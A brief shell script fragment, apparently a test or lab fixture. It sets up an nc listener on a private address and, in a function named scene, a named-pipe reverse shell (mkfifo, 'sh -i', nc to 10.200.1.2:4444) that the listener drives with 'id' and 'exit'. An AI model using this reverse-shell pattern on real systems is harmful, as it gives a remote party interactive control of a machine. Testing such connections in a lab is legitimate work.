# A relay: nc has the connection, and the shell a named pipe.
peers() { (echo id; echo exit) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() {
  mkfifo f
  cat f | sh -i 2>&1 | timeout 4 nc 10.200.1.2 4444 > f
}
